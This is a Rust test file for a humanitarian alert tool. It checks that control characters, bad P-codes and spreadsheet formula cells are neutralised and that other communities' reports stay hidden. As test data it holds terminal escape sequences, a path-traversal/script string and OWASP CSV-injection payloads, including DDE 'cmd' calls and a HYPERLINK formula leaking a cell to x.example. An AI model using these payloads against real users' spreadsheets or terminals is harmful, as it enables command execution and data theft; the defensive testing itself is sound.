//! Input that cannot attack the operator, end to end against the binary:
//! control characters never reach the store through any channel, nor the
//! terminal from stored data; P-codes are checked; CSV cells that a
//! spreadsheet would run as formulas are neutralised; the alert page answers
//! another community's reference as an unknown one.

use super::intake::{
    PASSWORD, Site, TWILIO_TOKEN, form_encode, get_auth, hidden_csrf, http, import_fixture, kobo_fixture, post_json,
    stored_count, twilio_signature,
};
use std::path::Path;

/// Any control character a terminal acts on, or a bidi override/isolate.
fn has_controls(s: &str) -> bool {
    s.chars().any(|c| {
        (c.is_control() && c != '\n' && c != '\t')
            || ('\u{202a}'..='\u{202e}').contains(&c)
            || ('\u{2066}'..='\u{2069}').contains(&c)
    })
}

/// Replaces `column` of the stored report `reference` straight in the
/// SQLite file, as data stored before intake checked it would be.
fn store_raw(db: &Path, reference: &str, column: &str, value: &str) {
    let conn = rusqlite::Connection::open(db).unwrap();
    let n = conn
        .execute(&format!("UPDATE reports SET {column} = ?1 WHERE reference = ?2"), rusqlite::params![value, reference])
        .unwrap();
    assert_eq!(n, 1);
}

#[test]
fn stored_escape_sequences_are_shown_not_sent_by_report_list_report_show_and_alerts_list() {
    let site = Site::new();
    let reference = site
        .ok(&["report", "submit", "--text", "Shots at night", "--area", "CF32", "--place", "Bouca"])
        .trim()
        .to_string();
    // Old data: ESC sequences that clear the screen, set the title, hide text; BEL; a C1 CSI; an RLO.
    store_raw(
        &site.db,
        &reference,
        "text",
        "Armed men\u{1b}[2J\u{1b}]0;pwned\u{7} burned \u{9b}31m houses\u{202e}kcab",
    );
    store_raw(&site.db, &reference, "place_name", "Bou\u{1b}[8mca");
    store_raw(&site.db, &reference, "category", "attack\u{1b}[31m");
    store_raw(&site.db, &reference, "area_pcode", "CF32\u{1b}[2J");
    for args in [vec!["report", "list"], vec!["report", "show", reference.as_str()], vec!["alerts", "list"]] {
        let out = site.run(&args);
        assert!(out.status.success(), "{args:?}: {}", String::from_utf8_lossy(&out.stderr));
        for byte in [0x1b_u8, 0x07] {
            assert!(
                !out.stdout.contains(&byte),
                "{args:?} printed a raw {byte:#x}: {:?}",
                String::from_utf8_lossy(&out.stdout)
            );
        }
        let stdout = String::from_utf8(out.stdout).unwrap();
        assert!(!stdout.contains('\u{9b}') && !stdout.contains('\u{202e}'), "{args:?}: {stdout:?}");
    }
    let list = site.ok(&["report", "list"]);
    assert!(list.contains("Armed men\\u{1b}[2J\\u{1b}]0;pwned\\u{7} burned"), "shown, so an analyst sees it: {list}");
    let shown = site.ok(&["report", "show", &reference]);
    assert!(shown.contains("place Bou\\u{1b}[8mca") && shown.contains("houses\\u{202e}kcab"), "{shown}");
    // An error quoting input does not send it either.
    let bad = site.run(&["report", "submit", "--text", "x", "--urgency", "soon\u{1b}[2J"]);
    assert!(!bad.status.success() && !bad.stderr.contains(&0x1b), "{:?}", String::from_utf8_lossy(&bad.stderr));
}

/// Logs `user` in through the form; returns the session cookie and the
/// alert page's CSRF token.
fn web_login(addr: &str, user: &str) -> (String, String) {
    let ctype = ("Content-Type", "application/x-www-form-urlencoded");
    let page = http(addr, "GET", "/login", &[], b"");
    let cookie = page.cookie("vc_form").unwrap();
    let creds = form_encode(&[("csrf", &hidden_csrf(&page.body)), ("username", user), ("password", PASSWORD)]);
    let login = http(addr, "POST", "/login", &[ctype, ("Cookie", &cookie)], creds.as_bytes());
    assert_eq!(login.status, 303, "{}", login.body);
    let session = login.cookie("vc_session").unwrap();
    let alerts = http(addr, "GET", "/alerts", &[("Cookie", &session)], b"");
    assert_eq!(alerts.status, 200, "{}", alerts.body);
    (session, hidden_csrf(&alerts.body))
}

#[test]
fn control_characters_are_stripped_through_the_api_the_form_sms_and_kobo() {
    let site = Site::new();
    let (admin, analyst) = (site.token("admin1"), site.token("analyst1"));
    let (server, _) = site.serve_saying(&["--quiet"], &[("VITALCORE_TWILIO_AUTH_TOKEN", TWILIO_TOKEN)]);
    let addr = &server.addr;
    let nasty = "Armed\u{0} men\u{7} \u{1b}[31mburned\u{7f} \u{9b}houses\u{202e}kcab\u{202c} \u{2066}in\u{2069} Bouca\r\nlast night";
    let clean = "Armed men [31mburned houseskcab in Bouca\nlast night";

    // JSON API (serde reads \u escapes into the characters themselves).
    let body =
        serde_json::json!({"text": nasty, "place_name": "Bou\u{1b}[8mca\u{202e}", "area_pcode": "CF32"}).to_string();
    let r = post_json(addr, "/api/v1/reports", &analyst, &body);
    assert_eq!(r.status, 201, "{}", r.body);
    let api_ref = r.json()["reference"].as_str().unwrap().to_string();

    // The web form (percent-encoded bytes).
    let page = http(addr, "GET", "/report", &[], b"");
    let cookie = page.cookie("vc_form").unwrap();
    let form =
        form_encode(&[("csrf", &hidden_csrf(&page.body)), ("lang", "en"), ("text", nasty), ("place", "Bou\u{7}ca")]);
    let r = http(
        addr,
        "POST",
        "/report",
        &[("Content-Type", "application/x-www-form-urlencoded"), ("Cookie", &cookie)],
        form.as_bytes(),
    );
    assert_eq!(r.status, 200, "{}", r.body);
    let at = r.body.find("VC-").unwrap();
    let form_ref = r.body[at..at + 11].to_string();

    // An SMS through the Twilio webhook.
    let pairs = [("From", "+23672000001"), ("Body", nasty), ("MessageSid", "SM\u{1b}1")];
    let signature = twilio_signature(&format!("http://{addr}/sms/twilio"), &pairs);
    let headers = [("Content-Type", "application/x-www-form-urlencoded"), ("X-Twilio-Signature", signature.as_str())];
    let r = http(addr, "POST", "/sms/twilio", &headers, form_encode(&pairs).as_bytes());
    assert_eq!(r.status, 200, "{}", r.body);
    let at = r.body.find("VC-").unwrap();
    let sms_ref = r.body[at..at + 11].to_string();

    for reference in [&api_ref, &form_ref, &sms_ref] {
        let shown = get_auth(addr, &format!("/api/v1/reports/{reference}"), &admin).json();
        assert_eq!(shown["text"], clean, "{reference}: {shown}");
        assert!(!has_controls(&shown.to_string()), "{shown}");
    }
    assert_eq!(get_auth(addr, &format!("/api/v1/reports/{api_ref}"), &admin).json()["place"]["name"], "Bou[8mca");

    // A KoBo export read by the CLI: the answers are stripped too.
    let text = std::fs::read_to_string(kobo_fixture("alerts_groups.csv")).unwrap();
    let poisoned = text.replacen("Hommes armés ont brûlé", "Hommes\u{1b}[2J armés\u{7} ont\u{202e} brûlé", 1);
    assert_ne!(poisoned, text);
    let export = site.dir.path().join("kobo.csv");
    std::fs::write(&export, poisoned).unwrap();
    let mapping = kobo_fixture("alerts_groups.toml");
    site.ok(&["report", "import-kobo", export.to_str().unwrap(), "--mapping", mapping.to_str().unwrap()]);
    let listed: serde_json::Value = serde_json::from_str(&site.ok(&["report", "list", "--format", "json"])).unwrap();
    let texts: Vec<&str> = listed.as_array().unwrap().iter().map(|r| r["text"].as_str().unwrap()).collect();
    assert!(texts.iter().any(|t| t.starts_with("Hommes[2J armés ont brûlé")), "{texts:?}");
    assert!(texts.iter().all(|t| !has_controls(t)), "{texts:?}");

    // Workflow notes through the API.
    let step = serde_json::json!({"step": "acknowledge"}).to_string();
    assert_eq!(post_json(addr, &format!("/api/v1/alerts/{api_ref}/steps"), &analyst, &step).status, 200);
    let step = serde_json::json!({"step": "verify", "note": "seen\u{1b}[8m by\u{202e} phone"}).to_string();
    let r = post_json(addr, &format!("/api/v1/alerts/{api_ref}/steps"), &analyst, &step);
    assert_eq!(r.status, 200, "{}", r.body);
    assert_eq!(r.json()["steps"][1]["step"]["note"], "seen[8m by phone");
}

#[test]
fn unknown_pcodes_are_refused_with_a_422_naming_the_field_and_nothing_is_stored() {
    let site = Site::new();
    let (admin, analyst) = (site.token("admin1"), site.token("analyst1"));
    let server = site.serve(&[]);
    let addr = &server.addr;
    let before = stored_count(addr, &admin);
    for bad in ["../../etc/passwd<script>", "=HYPERLINK(\"http://x.example\",\"click\")", "CF99", "@SUM(1)"] {
        let body = serde_json::json!({"text": "Shots at night", "area_pcode": bad}).to_string();
        let r = post_json(addr, "/api/v1/reports", &analyst, &body);
        assert_eq!(r.status, 422, "{bad}: {}", r.body);
        let fields = r.json()["fields"].clone();
        assert_eq!(fields[0]["field"], "area_pcode", "{fields}");
        assert_eq!(fields[0]["code"], "invalid.area_unknown", "{fields}");
        let cli = site.run(&["report", "submit", "--text", "Shots at night", "--area", bad]);
        assert!(!cli.status.success());
        assert!(
            String::from_utf8_lossy(&cli.stderr).contains("area_pcode"),
            "{}",
            String::from_utf8_lossy(&cli.stderr)
        );
    }
    assert_eq!(stored_count(addr, &admin), before, "nothing was stored");
    // A known P-code in any case is stored as the boundaries spell it.
    let body = serde_json::json!({"text": "Shots at night", "area_pcode": "cf32"}).to_string();
    let r = post_json(addr, "/api/v1/reports", &analyst, &body);
    assert_eq!((r.status, r.json()["area_pcode"].as_str()), (201, Some("CF32")), "{}", r.body);

    // With no boundaries loaded, a P-code is checked by its shape.
    let bare = tempfile::tempdir().unwrap();
    let db = bare.path().join("bare.db");
    let run = |args: &[&str]| {
        std::process::Command::new(env!("CARGO_BIN_EXE_vitalcore"))
            .arg("--db")
            .arg(&db)
            .args(args)
            .env_remove("VITALCORE_DATABASE_URL")
            .output()
            .unwrap()
    };
    assert!(run(&["report", "submit", "--text", "Shots", "--area", "CF32"]).status.success());
    let bad = run(&["report", "submit", "--text", "Shots", "--area", "../../etc/passwd<script>"]);
    assert!(!bad.status.success());
    assert!(
        String::from_utf8_lossy(&bad.stderr).contains("is not a P-code"),
        "{}",
        String::from_utf8_lossy(&bad.stderr)
    );
    // A focal point's community is checked the same way.
    let out = site.run(&["users", "add", "fp99", "--role", "focal-point", "--community", "CF99", "--password-stdin"]);
    assert!(!out.status.success(), "CF99 is not a loaded area");
}

/// Four squares named with the payloads of OWASP's CSV injection page.
fn poisoned_boundaries(dir: &Path) -> std::path::PathBuf {
    let names = [
        ("XA01", "=HYPERLINK(\"http://x.example/?leak=\"&A1,\"click\")"),
        ("XA02", "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("XA03", "-2+3+cmd|' /C calc'!A0"),
        ("XA04", "+cmd|' /C calc'!A0"),
    ];
    let features: Vec<serde_json::Value> = names
        .iter()
        .enumerate()
        .map(|(i, (pcode, name))| {
            let x = 10.0 + i as f64;
            serde_json::json!({
                "type": "Feature",
                "properties": {"admin0Name": "Testland", "admin0Pcod": "XA", "admin1Name": name, "admin1Pcod": pcode},
                "geometry": {"type": "Polygon", "coordinates": [[[x, 1.0], [x + 1.0, 1.0], [x + 1.0, 2.0], [x, 2.0], [x, 1.0]]]}
            })
        })
        .collect();
    let path = dir.join("poisoned_adm1.geojson");
    std::fs::write(&path, serde_json::json!({"type": "FeatureCollection", "features": features}).to_string()).unwrap();
    path
}

/// The cells of `column` in a CSV text.
fn column(csv: &str, name: &str) -> Vec<String> {
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let i = reader.headers().unwrap().iter().position(|h| h == name).unwrap_or_else(|| panic!("no {name}"));
    reader.records().map(|r| r.unwrap()[i].to_string()).collect()
}

fn neutralised(cells: &[String]) {
    assert!(!cells.is_empty());
    for c in cells {
        assert!(!c.starts_with(['=', '+', '-', '@', '\t', '\r']), "a formula cell: {c:?} in {cells:?}");
    }
}

#[test]
fn csv_exports_neutralise_formula_cells_and_keep_numbers() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("t.db");
    let run = |args: &[&str]| {
        let out = std::process::Command::new(env!("CARGO_BIN_EXE_vitalcore"))
            .arg("--db")
            .arg(&db)
            .args(args)
            .env_remove("VITALCORE_DATABASE_URL")
            .output()
            .unwrap();
        assert!(out.status.success(), "{args:?}: {}", String::from_utf8_lossy(&out.stderr));
        String::from_utf8(out.stdout).unwrap()
    };
    run(&["import", poisoned_boundaries(dir.path()).to_str().unwrap()]);
    for (pcode, n) in [("XA01", 6), ("XA02", 1), ("XA03", 1), ("XA04", 1)] {
        for i in 0..n {
            let text = format!("=HYPERLINK(\"http://x.example\") armed men burned houses {i}");
            run(&[
                "report",
                "submit",
                "--text",
                &text,
                "--area",
                pcode,
                "--category",
                "attack",
                "--event-time",
                "2020-06-01",
            ]);
        }
    }
    run(&["report", "submit", "--text=-2+3 shots"]);

    let exported = run(&["export", "--format", "csv", "--period", "all"]);
    let names = column(&exported, "unit_name");
    neutralised(&names);
    assert!(names.contains(&"'=HYPERLINK(\"http://x.example/?leak=\"&A1,\"click\")".to_string()), "{names:?}");
    assert!(names.contains(&"'@SUM(1+1)*cmd|' /C calc'!A0".to_string()), "{names:?}");
    assert!(names.contains(&"'-2+3+cmd|' /C calc'!A0".to_string()), "{names:?}");
    assert!(names.contains(&"'+cmd|' /C calc'!A0".to_string()), "{names:?}");
    assert!(column(&exported, "critical").iter().all(|c| c.parse::<f64>().is_ok()), "scores stay numbers");
    let hxl = run(&["export", "--format", "hxl", "--period", "all"]);
    neutralised(&column(&hxl, "unit_name")[1..]);
    let assessed = run(&["assess", "--format", "csv", "--period", "all"]);
    neutralised(&column(&assessed, "unit_name"));

    let listed = run(&["report", "list", "--format", "csv"]);
    neutralised(&column(&listed, "text"));
    assert!(column(&listed, "text").iter().any(|t| t == "'-2+3 shots"));

    let metrics = run(&["alerts", "metrics", "--format", "csv"]);
    assert!(!metrics.lines().any(|l| l.starts_with(['=', '+', '@'])), "{metrics}");

    // A KoBo import's rejects file: a rejected row's uuid is a formula.
    let kobo = dir.path().join("k.csv");
    std::fs::write(
        &kobo,
        "description,category,_uuid\nShots,weather,=HYPERLINK(\"http://x.example\")\nShots,@SUM(1),+cmd|' /C calc'!A0\n",
    )
    .unwrap();
    let mapping = dir.path().join("k.toml");
    std::fs::write(&mapping, "form = \"k\"\n[questions]\ntext = \"description\"\ncategory = \"category\"\n").unwrap();
    let rejects = dir.path().join("k.rejects.csv");
    run(&[
        "report",
        "import-kobo",
        kobo.to_str().unwrap(),
        "--mapping",
        mapping.to_str().unwrap(),
        "--rejects",
        rejects.to_str().unwrap(),
    ]);
    let written = std::fs::read_to_string(&rejects).unwrap();
    let uuids = column(&written, "uuid");
    assert_eq!(uuids, ["'=HYPERLINK(\"http://x.example\")", "'+cmd|' /C calc'!A0"], "{written}");
}

#[test]
fn the_rejects_files_of_import_and_aggregate_neutralise_formula_cells() {
    let dir = tempfile::tempdir().unwrap();
    // An ACLED export with a bad row whose fields are formulas.
    let text = std::fs::read_to_string(import_fixture("acled_current_synthetic.csv")).unwrap();
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let header = reader.headers().unwrap().clone();
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    let mut row: Vec<String> = reader.records().next().unwrap().unwrap().iter().map(String::from).collect();
    row[col("notes")] = "=HYPERLINK(\"http://x.example\")".into();
    row[col("admin1")] = "@SUM(1+1)".into();
    row[col("fatalities")] = "-2+3".into();
    let mut w = csv::Writer::from_path(dir.path().join("acled.csv")).unwrap();
    w.write_record(&header).unwrap();
    w.write_record(&row).unwrap();
    w.flush().unwrap();
    drop(w);
    let file = dir.path().join("acled.csv");
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_vitalcore"))
        .arg("--db")
        .arg(dir.path().join("t.db"))
        .args(["import", file.to_str().unwrap()])
        .env_remove("VITALCORE_DATABASE_URL")
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let rejects = std::fs::read_to_string(dir.path().join("acled.rejects.csv")).unwrap();
    assert_eq!(column(&rejects, "notes"), ["'=HYPERLINK(\"http://x.example\")"]);
    assert_eq!(column(&rejects, "admin1"), ["'@SUM(1+1)"]);
    assert_eq!(column(&rejects, "fatalities"), ["'-2+3"]);
    assert_eq!(column(&rejects, "latitude"), [row[col("latitude")].clone()], "numbers stay");

    // `aggregate` reads the same file: its rollup and rejects files too.
    let mut good = row.clone();
    good[col("fatalities")] = "2".into();
    let mut w = csv::Writer::from_path(dir.path().join("agg.csv")).unwrap();
    w.write_record(&header).unwrap();
    w.write_record(&good).unwrap();
    w.write_record(&row).unwrap();
    w.flush().unwrap();
    drop(w);
    let agg_rejects = dir.path().join("agg.rejects.csv");
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_vitalcore"))
        .args(["aggregate", dir.path().join("agg.csv").to_str().unwrap(), "--rejects", agg_rejects.to_str().unwrap()])
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let rollup = String::from_utf8(out.stdout).unwrap();
    assert_eq!(column(&rollup, "admin1"), ["'@SUM(1+1)"], "{rollup}");
    let by_admin1 = std::process::Command::new(env!("CARGO_BIN_EXE_vitalcore"))
        .args(["aggregate", dir.path().join("agg.csv").to_str().unwrap(), "--by", "admin1"])
        .output()
        .unwrap();
    assert_eq!(column(&String::from_utf8(by_admin1.stdout).unwrap(), "admin1"), ["'@SUM(1+1)"]);
    let bad = std::fs::read_to_string(&agg_rejects).unwrap();
    assert_eq!(column(&bad, "value"), ["'-2+3"], "{bad}");
}

#[test]
fn the_alert_page_answers_another_communitys_reference_as_an_unknown_one() {
    let site = Site::new();
    let responder = site.token("responder1");
    let server = site.serve(&[]);
    let addr = &server.addr;
    let body = serde_json::json!({"text": "Cattle stolen near the river", "area_pcode": "CF71"}).to_string();
    let theirs =
        post_json(addr, "/api/v1/reports", &responder, &body).json()["reference"].as_str().unwrap().to_string();
    // A well-formed reference no report has.
    let unknown = if theirs == vitalcore_ref(1) { vitalcore_ref(2) } else { vitalcore_ref(1) };
    let (session, csrf) = web_login(addr, "focal32");
    let step = |reference: &str| {
        let form = form_encode(&[
            ("csrf", &csrf),
            ("step", "feedback"),
            ("feedback", "We heard you"),
            ("feedback_channel", "radio"),
        ]);
        http(
            addr,
            "POST",
            &format!("/alerts/{reference}/step"),
            &[("Content-Type", "application/x-www-form-urlencoded"), ("Cookie", &session)],
            form.as_bytes(),
        )
    };
    let other = step(&theirs);
    let missing = step(&unknown);
    assert_eq!(other.status, 404, "{}", other.body);
    assert_eq!(missing.status, 404, "{}", missing.body);
    assert_eq!(
        other.body.replace(&theirs, "REF"),
        missing.body.replace(&unknown, "REF"),
        "the same page but for the reference typed"
    );
    // The JSON API for a viewer: the same answer for a real and an unknown reference.
    let viewer = site.token("viewer1");
    let a = get_auth(addr, &format!("/api/v1/reports/{theirs}"), &viewer);
    let b = get_auth(addr, &format!("/api/v1/reports/{unknown}"), &viewer);
    assert_eq!((a.status, a.body.replace(&theirs, "REF")), (b.status, b.body.replace(&unknown, "REF")));
}

/// `VC-....-...` for `n`, as `Reference::from_number` writes it.
fn vitalcore_ref(n: u32) -> String {
    const CROCKFORD: &[u8; 32] = b"0123456789ABCDEFGHJKMNPQRSTVWXYZ";
    let values: Vec<u32> = (0..6).rev().map(|i| (n >> (i * 5)) & 31).collect();
    let symbols: String = values.iter().map(|&v| CROCKFORD[v as usize] as char).collect();
    let check = values.iter().enumerate().map(|(i, v)| (i as u32 + 1) * v).sum::<u32>() % 31;
    format!("VC-{}-{}{}", &symbols[..4], &symbols[4..], CROCKFORD[check as usize] as char)
}
